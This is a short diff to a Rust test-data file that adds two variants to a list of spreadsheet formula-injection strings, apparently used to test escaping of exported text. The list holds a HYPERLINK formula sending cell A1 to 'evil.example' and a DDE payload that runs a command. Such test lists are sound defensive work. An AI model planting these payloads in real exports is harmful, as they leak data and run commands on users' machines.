@@ -43,13 +43,15 @@ pub(super) const ODD: [&str; 9] = [
 ];
 
 /// Texts that a spreadsheet would calculate.
-pub(super) const FORMULAS: [&str; 6] = [
+pub(super) const FORMULAS: [&str; 8] = [
     r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
     "@SUM(1,1)",
     "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
 ];
 
 /// All of them, one by one.
